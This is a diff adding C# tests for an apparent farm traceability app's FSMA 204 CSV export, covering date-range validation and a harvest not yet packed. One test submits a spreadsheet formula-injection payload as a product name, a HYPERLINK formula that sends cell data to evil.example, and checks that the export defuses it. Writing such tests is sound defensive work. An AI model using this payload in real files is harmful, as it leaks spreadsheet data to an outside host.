@@ -198,6 +198,31 @@ public sealed class Fsma204Tests(AgriApp app) : IClassFixture<AgriApp>
         await (await admin.GetAsync("/api/v1/exports/fsma204.csv?from=2026-05-01&to=31%2F05%2F2026")).ExpectFieldErrors("to");
         await (await admin.GetAsync("/api/v1/exports/fsma204.csv?from=2026-06-01&to=2026-05-31")).ExpectFieldErrors("from");
         await (await admin.GetAsync("/api/v1/exports/fsma204.csv?from=2025-01-01&to=2026-01-02")).ExpectFieldErrors("to");
+        await (await admin.GetAsync("/api/v1/exports/fsma204.csv?from=9999-12-01&to=9999-12-31")).ExpectFieldErrors("from", "to");
         (await ExportAsync(admin, "2024-01-01", "2024-12-31")).Should().BeEmpty("366 days (a leap year) is the longest range");
+    }
+
+    [Fact]
+    public async Task A_harvest_not_yet_packed_is_listed_and_text_a_spreadsheet_would_run_is_defused()
+    {
+        var farm = await app.FarmAsync();
+        var batchId = await farm.Household.PlantedBatchAsync(farm.GrowingAreaId);
+        await (await farm.Household.PostJson($"/api/v1/batches/{batchId}/harvests", new { harvestedOn = "2026-04-11", quantityKg = 120 })).Expect(HttpStatusCode.OK);
+        var unpacked = await ExportAsync(farm.Cooperative, "2026-04-11", "2026-04-11");
+        var harvest = unpacked.Should().ContainSingle().Subject;
+        (harvest[0], harvest[1], harvest[3], harvest[8]).Should().Be(("Harvesting", "", "120", NotPacked));
+
+        await (await farm.Cooperative.PostJson("/api/v1/lots", new
+        {
+            batchId,
+            gtin = "8931234567897",
+            packedOn = "2026-04-12",
+            unitCount = 10,
+            netWeightGrams = 1000,
+            productName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+            lotCode = "FX0001",
+        })).Expect(HttpStatusCode.Created);
+        var packing = (await ExportAsync(farm.Cooperative, "2026-04-12", "2026-04-12")).Should().ContainSingle().Subject;
+        packing[2].Should().StartWith("'=HYPERLINK(");
     }
 }
